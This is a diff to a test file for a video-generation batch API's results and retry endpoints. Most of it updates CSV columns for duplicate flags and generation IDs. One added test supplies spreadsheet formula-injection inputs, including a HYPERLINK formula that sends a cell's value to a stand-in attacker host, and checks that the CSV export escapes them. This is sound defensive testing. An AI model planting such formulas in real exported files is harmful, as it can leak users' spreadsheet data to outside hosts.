@@ -72,6 +72,7 @@ describe('GET /v1/batches/:id/results', () => {
         error_code: null,
         error_message: null,
         generation_id: 'g1',
+        generation_ids: ['g1'],
         cost_usd: 0.125,
         prompt: 'a red fox',
         model: 'sber-ai/kandinsky5-distill-t2v',
@@ -98,12 +99,44 @@ describe('GET /v1/batches/:id/results', () => {
     expect(csv.headers['content-type']).toMatch(/text\/csv/);
     expect(csv.headers['content-disposition']).toContain(`${id}.results.csv`);
     expect(csv.body.trim().split('\n')).toEqual([
-      'row,custom_id,status,video_url,provider_video_url,archive_status,archive_bytes,archive_sha256,archived_at,error_code,error_message,generation_id,cost_usd,prompt,model,campaign,note',
-      '1,fox,completed,https://cdn.example/v1.mp4,https://cdn.example/v1.mp4,,,,,,,g1,0.125,a red fox,sber-ai/kandinsky5-distill-t2v,winter,"a, b"',
-      '3,light,queued,,,,,,,,,,,a lighthouse,sber-ai/kandinsky5-distill-t2v,spring,',
-      '4,waves,failed,,,,,,,generation_failed,"NSFW, refused",,,"waves ""big""",sber-ai/kandinsky5-distill-t2v,autumn,last',
+      'row,custom_id,status,video_url,provider_video_url,archive_status,archive_bytes,archive_sha256,archived_at,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,campaign,note',
+      '1,fox,completed,https://cdn.example/v1.mp4,https://cdn.example/v1.mp4,,,,,,,g1,0.125,a red fox,sber-ai/kandinsky5-distill-t2v,,g1,winter,"a, b"',
+      '3,light,queued,,,,,,,,,,,a lighthouse,sber-ai/kandinsky5-distill-t2v,,,spring,',
+      '4,waves,failed,,,,,,,generation_failed,"NSFW, refused",,,"waves ""big""",sber-ai/kandinsky5-distill-t2v,,,autumn,last',
     ]);
     expect((await view(id)).cost_usd).toBe(0.125);
+  });
+
+  it('escapes cells a spreadsheet would run as formulas (=, +, -, @, tab, CR), header included', async () => {
+    const csv = [
+      'prompt,custom_id,=cmd,note',
+      '"=HYPERLINK(""http://evil.example/?""&A1,""open"")",+1,@SUM(A1),-2+3',
+      'a calm lake,plain,"\tx",ok',
+    ].join('\n');
+    const res = await postBatch(t.app, csv);
+    expect(res.statusCode).toBe(202);
+    const { id } = res.json<Created>();
+    await store.setRowStatus(id, 1, 'failed', { error: { code: 'generation_failed', message: '=1+1' } });
+    await store.setRowStatus(id, 2, 'failed', { error: { code: 'generation_failed', message: '\r=1' } });
+
+    const out = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results?format=csv` });
+    expect(out.statusCode).toBe(200);
+    const lines = out.body.split('\n');
+    expect(lines[0]).toBe(
+      "row,custom_id,status,video_url,provider_video_url,archive_status,archive_bytes,archive_sha256,archived_at,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,'=cmd,note",
+    );
+    expect(lines[1]).toBe(
+      `1,'+1,failed,,,,,,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,,,'@SUM(A1),'-2+3`,
+    );
+    expect(lines[2]).toBe(
+      `2,plain,failed,,,,,,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,,,'\tx,ok`,
+    );
+    // JSONL carries the values as they are: it is not opened by spreadsheets.
+    const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
+    expect(JSON.parse(jsonl.body.split('\n')[0] ?? '')).toMatchObject({
+      custom_id: '+1',
+      metadata: { '=cmd': '@SUM(A1)', note: '-2+3' },
+    });
   });
 
   it('keeps results readable after BullMQ removed the jobs', async () => {
@@ -113,8 +146,11 @@ describe('GET /v1/batches/:id/results', () => {
     const res = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
     expect(res.body.trim().split('\n')).toHaveLength(3);
     expect(JSON.parse(res.body.split('\n')[0] ?? '')).toMatchObject({ row: 1, video_url: 'u1' });
-    const ttl = await redis.ttl(vidqKeys(t.config.QUEUE_PREFIX).batch(id).input);
-    expect(ttl).toBeGreaterThan(t.config.BATCH_TTL_SECONDS - 60);
+    // Rows 3 and 4 are still open: the record has no TTL until they finish (then BATCH_TTL_SECONDS).
+    const input = vidqKeys(t.config.QUEUE_PREFIX).batch(id).input;
+    expect(await redis.ttl(input)).toBe(-1);
+    for (const row of [3, 4]) await store.setRowStatus(id, row, 'cancelled');
+    expect(await redis.ttl(input)).toBeGreaterThan(t.config.BATCH_TTL_SECONDS - 60);
   });
 });
 
@@ -182,6 +218,15 @@ describe('POST /v1/batches/:id/retry', () => {
     expect(one?.data.input.prompt).toBe('a red fox');
     expect(one?.data.metadata).toEqual({ campaign: 'winter', note: 'a, b' });
     expect(four?.data.possibleDuplicate).toBeUndefined();
+    // The flag shows on the row and in the batch's count, with the earlier generation kept.
+    expect(b.possible_duplicates).toBe(1);
+    const results = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
+    const [r1, , r4] = results.body
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(r1).toMatchObject({ status: 'queued', possible_duplicate: true, generation_ids: ['g?'] });
+    expect(r4?.possible_duplicate).toBeUndefined();
 
     // Nothing failed any more: a second retry queues nothing.
     const again = await t.app.inject({ method: 'POST', url: `/v1/batches/${id}/retry`, payload: {} });
